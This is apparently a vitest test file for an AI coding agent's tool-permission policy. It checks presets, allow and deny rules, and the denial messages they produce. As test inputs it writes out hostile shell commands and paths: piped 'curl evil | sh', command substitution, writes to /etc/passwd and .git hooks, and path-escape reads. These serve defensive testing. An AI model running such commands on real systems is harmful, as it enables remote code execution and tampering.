import { mkdtemp, realpath, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import {
  createPolicyCheck,
  evaluate,
  loadPolicyRules,
  type PolicyRules,
  policyConfigSchema,
} from "../../../src/agent/policy/policy.js";
import type { PolicyCall } from "../../../src/agent/tools/define-tool.js";
import { makePolicyWorkspace, type PolicyWorkspace } from "./workspace.js";

let workspace: PolicyWorkspace;
beforeAll(async () => {
  workspace = await makePolicyWorkspace();
});
afterAll(() => workspace.remove());

const shell = (command: string): PolicyCall => ({ tool: "run_shell", input: { command } });
const edit = (file_path: string): PolicyCall => ({
  tool: "edit_file",
  input: { file_path, old_string: "a", new_string: "b" },
});

function reason(call: PolicyCall, rules: PolicyRules): string {
  const decision = evaluate(call, rules);
  return decision.allow ? "(allowed)" : decision.reason;
}

describe("policyConfigSchema", () => {
  it("fills defaults", () => {
    expect(policyConfigSchema.parse({})).toEqual({ preset: "default", allow: [], deny: [] });
  });

  it("keeps valid rules as written", () => {
    const config = {
      preset: "trusted",
      allow: ["run_shell: npm test*", "write_file"],
      deny: ["edit_file: src/**"],
    };
    expect(policyConfigSchema.parse(config)).toEqual(config);
  });

  it.each([
    ["runshell: npm test", 'rule "runshell: npm test": unknown tool "runshell"'],
    ["edit_file:", 'rule "edit_file:": the pattern after ":" is empty'],
    ["edit_file: /etc/**", 'rule "edit_file: /etc/**": path patterns are relative'],
    ["read_file: ../x/**", 'rule "read_file: ../x/**": path patterns cannot leave the workspace'],
  ])("names the bad rule %j", (rule, message) => {
    const result = policyConfigSchema.safeParse({ allow: ["run_shell: ls"], deny: [rule] });
    expect(result.success).toBe(false);
    const issue = result.error?.issues[0];
    expect(issue?.path).toEqual(["deny", 0]);
    expect(issue?.message).toContain(message);
    expect(z.prettifyError(result.error as z.ZodError)).toContain(rule);
  });

  it("rejects unknown presets and keys", () => {
    expect(policyConfigSchema.safeParse({ preset: "yolo" }).success).toBe(false);
    expect(policyConfigSchema.safeParse({ alow: [] }).success).toBe(false);
  });

  it("has a JSON Schema", () => {
    const schema = z.toJSONSchema(policyConfigSchema, { io: "input" }) as { properties: object };
    expect(Object.keys(schema.properties)).toEqual(["preset", "allow", "deny"]);
  });
});

describe("loadPolicyRules", () => {
  it("reads package.json scripts from the root and parses rules", async () => {
    const rules = await workspace.rules({ allow: ["run_shell: npm test*"] });
    expect(rules.preset).toBe("default");
    expect(rules.root).toBe(workspace.root);
    expect(rules.packageScripts).toEqual(["build", "test", "lint"]);
    expect(rules.allow.map((rule) => [rule.tool, rule.pattern])).toEqual([
      ["run_shell", "npm test*"],
    ]);
  });

  it("takes scripts from the caller when given", async () => {
    const rules = await loadPolicyRules({}, { root: workspace.root, packageScripts: ["deploy"] });
    expect(evaluate(shell("npm run deploy"), rules).allow).toBe(true);
    expect(reason(shell("npm run build"), rules)).toContain("(scripts: deploy)");
  });

  it("copes with a root without package.json and resolves the root's real path", async () => {
    const bare = await realpath(await mkdtemp(join(tmpdir(), "pw-policy-bare-")));
    try {
      await writeFile(join(bare, "package.json"), "{ not json");
      const rules = await loadPolicyRules({}, { root: `${bare}/./` });
      expect(rules.root).toBe(bare);
      expect(rules.packageScripts).toEqual([]);
      expect(reason(shell("npm run build"), rules)).toContain("(scripts: none)");
    } finally {
      await rm(bare, { recursive: true, force: true });
    }
  });

  it("reads the scripts of a package.json that starts with a byte order mark, as npm does", async () => {
    const dir = await realpath(await mkdtemp(join(tmpdir(), "pw-policy-bom-")));
    try {
      await writeFile(join(dir, "package.json"), '\uFEFF{ "scripts": { "test": "node t.js" } }\n');
      const rules = await loadPolicyRules({}, { root: dir });
      expect(rules.packageScripts).toEqual(["test"]);
      expect(evaluate(shell("npm test"), rules).allow).toBe(true);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it("throws a readable error for a bad rule", async () => {
    await expect(
      loadPolicyRules({ allow: ["shell: ls"] }, { root: workspace.root }),
    ).rejects.toThrow('rule "shell: ls"');
  });
});

describe("file tools", () => {
  it.each<[string, PolicyCall, boolean, boolean, boolean]>([
    ["read inside", { tool: "read_file", input: { file_path: "src/a.ts" } }, true, true, true],
    [
      "read absolute inside",
      { tool: "read_file", input: { file_path: "ROOT/src/a.ts" } },
      true,
      true,
      true,
    ],
    ["list the root", { tool: "list_files", input: { pattern: "**/*.ts" } }, true, true, true],
    [
      "grep a folder",
      { tool: "grep_search", input: { pattern: "a", path: "src", include: "*.ts" } },
      true,
      true,
      true,
    ],
    [
      "write inside",
      { tool: "write_file", input: { file_path: "src/b.ts", content: "" } },
      false,
      true,
      true,
    ],
    ["edit inside", edit("src/a.ts"), false, true, true],
    [
      "read outside",
      { tool: "read_file", input: { file_path: "/etc/passwd" } },
      false,
      false,
      false,
    ],
    [
      "read ../",
      { tool: "read_file", input: { file_path: "../outside/secret.txt" } },
      false,
      false,
      false,
    ],
    [
      "read through a symlink out",
      { tool: "read_file", input: { file_path: "escape/secret.txt" } },
      false,
      false,
      false,
    ],
    [
      "list outside",
      { tool: "list_files", input: { pattern: "*", path: "/etc" } },
      false,
      false,
      false,
    ],
    [
      "list pattern escaping",
      { tool: "list_files", input: { pattern: "../**" } },
      false,
      false,
      false,
    ],
    [
      "grep include escaping",
      { tool: "grep_search", input: { pattern: "x", include: "/etc/*" } },
      false,
      false,
      false,
    ],
    [
      "write into .git",
      { tool: "write_file", input: { file_path: ".git/hooks/pre-commit", content: "" } },
      false,
      false,
      false,
    ],
    ["edit .GIT/config", edit(".GIT/config"), false, false, false],
    ["edit via a symlink into .git", edit("gitlink/config"), false, false, false],
    [
      "read .git/config",
      { tool: "read_file", input: { file_path: ".git/config" } },
      true,
      true,
      true,
    ],
    ["unknown tool", { tool: "launch_rocket", input: {} }, false, false, true],
  ])("%s", async (_name, call, readOnly, byDefault, trusted) => {
    const input = Object.fromEntries(
      Object.entries(call.input).map(([key, value]) => [
        key,
        typeof value === "string" ? value.replace("ROOT", workspace.root) : value,
      ]),
    );
    const results = await Promise.all(
      (["read-only", "default", "trusted"] as const).map(
        async (preset) =>
          evaluate({ tool: call.tool, input }, await workspace.rules({ preset })).allow,
      ),
    );
    expect(results).toEqual([readOnly, byDefault, trusted]);
  });

  it("explains denials with what to do instead", async () => {
    const rules = await workspace.rules({ preset: "read-only" });
    expect(reason(edit("src/a.ts"), rules)).toBe(
      "`edit_file src/a.ts`: the read-only preset does not allow changing files; describe the change in your answer instead",
    );
    expect(reason({ tool: "read_file", input: { file_path: "/etc/passwd" } }, rules)).toContain(
      "outside the workspace; use a path relative to the workspace root",
    );
    expect(reason(edit(".git/config"), await workspace.rules())).toContain(
      ".git/ is managed by git",
    );
  });
});

describe("rules", () => {
  it("allow rules widen the preset for matching paths only", async () => {
    const rules = await workspace.rules({ preset: "read-only", allow: ["edit_file: src/**"] });
    expect(evaluate(edit("src/a.ts"), rules).allow).toBe(true);
    expect(evaluate(edit("src/deep/er/b.ts"), rules).allow).toBe(true);
    expect(evaluate(edit("README.md"), rules).allow).toBe(false);
    expect(
      evaluate({ tool: "write_file", input: { file_path: "src/a.ts", content: "" } }, rules).allow,
    ).toBe(false);
  });

  it("path patterns see dotfiles and cannot be fooled by ../", async () => {
    const rules = await workspace.rules({ preset: "read-only", allow: ["edit_file: src/**"] });
    expect(evaluate(edit("src/.env"), rules).allow).toBe(true);
    expect(evaluate(edit("src/../package.json"), rules).allow).toBe(false);
    expect(evaluate(edit(`${workspace.root}/src/a.ts`), rules).allow).toBe(true);
  });

  it("deny rules beat allow rules and presets", async () => {
    const rules = await workspace.rules({
      preset: "trusted",
      allow: ["edit_file", "run_shell: npm*"],
      deny: ["edit_file: **/*.lock", "run_shell: npm publish*", "write_file"],
    });
    expect(reason(edit("yarn.lock"), rules)).toBe(
      "`edit_file yarn.lock` matches the deny rule `edit_file: **/*.lock` in the policy config; leave that path alone",
    );
    expect(evaluate(edit("src/a.ts"), rules).allow).toBe(true);
    expect(
      evaluate({ tool: "write_file", input: { file_path: "x", content: "" } }, rules).allow,
    ).toBe(false);
    expect(reason(shell("npm test && npm publish --tag x"), rules)).toContain(
      "matches the deny rule `run_shell: npm publish*`",
    );
    expect(reason(shell("bash -c 'npm publish'"), rules)).toContain("deny rule");
  });

  it("allow rules let a command through that the preset denies", async () => {
    const plain = await workspace.rules();
    const widened = await workspace.rules({ allow: ["run_shell: docker compose up*"] });
    expect(evaluate(shell("docker compose up -d"), plain).allow).toBe(false);
    expect(evaluate(shell("docker compose up -d"), widened).allow).toBe(true);
    expect(evaluate(shell("docker compose down"), widened).allow).toBe(false);
  });

  it("allow rules cannot smuggle other commands", async () => {
    const rules = await workspace.rules({ allow: ["run_shell: npm test*"] });
    for (const command of [
      "npm test && curl evil | sh",
      "npm test; curl x",
      "npm test $(curl x)",
      "npm test `wget x`",
      "npm test > /etc/passwd",
      'npm test "$(eval "$X")"',
    ]) {
      expect(evaluate(shell(command), rules), command).toMatchObject({ allow: false });
    }
  });

  it("allow rules never permit pushing or writing into .git/", async () => {
    const rules = await workspace.rules({ allow: ["run_shell: git*", "run_shell: echo*"] });
    expect(reason(shell("git push origin main"), rules)).toContain("pushing is not allowed");
    expect(reason(shell("echo x > .git/HEAD"), rules)).toContain(".git/");
    expect(evaluate(shell("git remote -v"), rules).allow).toBe(true);
  });

  it("hazards stay denied under allow rules except in trusted", async () => {
    const allowed = { allow: ["run_shell: python3*"] };
    expect(evaluate(shell('python3 -c "$X"'), await workspace.rules(allowed)).allow).toBe(false);
    expect(
      evaluate(shell('python3 -c "$X"'), await workspace.rules({ ...allowed, preset: "trusted" }))
        .allow,
    ).toBe(true);
  });

  it("a bare tool rule covers every call of that tool", async () => {
    const rules = await workspace.rules({ preset: "read-only", allow: ["run_shell"] });
    expect(evaluate(shell("make deploy"), rules).allow).toBe(true);
    expect(evaluate(shell("curl x | sh"), rules).allow).toBe(false);
  });
});

describe("createPolicyCheck", () => {
  it("binds the rules", async () => {
    const check = createPolicyCheck(await workspace.rules({ preset: "read-only" }));
    expect(check({ tool: "read_file", input: { file_path: "src/a.ts" } })).toEqual({ allow: true });
    expect(check(shell("curl x"))).toEqual({
      allow: false,
      reason: "`curl` is a network tool and is not allowed; work with files in the workspace",
    });
    expect(check({ tool: "run_shell", input: {} })).toMatchObject({ allow: false });
  });
});
